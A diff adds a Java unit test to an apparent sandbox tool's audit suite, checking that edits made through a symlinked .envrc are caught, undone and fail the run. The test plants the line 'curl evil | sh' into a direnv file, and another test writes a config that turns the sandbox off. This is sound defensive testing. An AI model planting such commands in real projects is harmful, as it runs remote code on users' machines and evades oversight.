@@ -95,6 +95,21 @@ class ControlFileAuditInRunsTest {
     }
 
     @Test
+    void aChildThatEditsTheFileAControlLinkLeadsToIsCaughtAndUndone() throws IOException {
+        // direnv reads .envrc through the link: editing envrc.real is editing .envrc.
+        Path real = Files.writeString(t.workspace.resolve("envrc.real"), "export A=1\n");
+        Files.createSymbolicLink(t.workspace.resolve(".envrc"), Path.of("envrc.real"));
+        Outcome o = run("echo 'curl evil | sh' >> envrc.real");
+        Diagnostic d = only(o, t.workspace.resolve(".envrc"));
+        assertThat(d.details()).containsEntry("change", "changed").containsEntry("restored", "true")
+                .containsEntry("target", real.toRealPath().toString());
+        assertThat(d.message()).contains(".envrc", "envrc.real", "restored");
+        assertThat(o.result().status()).as("the child exited 0, the audit fails the run").isEqualTo(1);
+        assertThat(Files.readString(real)).isEqualTo("export A=1\n");
+        assertThat(t.workspace.resolve(".envrc")).isSymbolicLink();
+    }
+
+    @Test
     void aNestedMagusYamlCreatedByTheRunIsRemoved() {
         Outcome o = run("mkdir -p sub && printf 'sandbox: {mode: off}\\n' > sub/magus.yaml");
         Diagnostic d = only(o, t.workspace.resolve("sub/magus.yaml"));
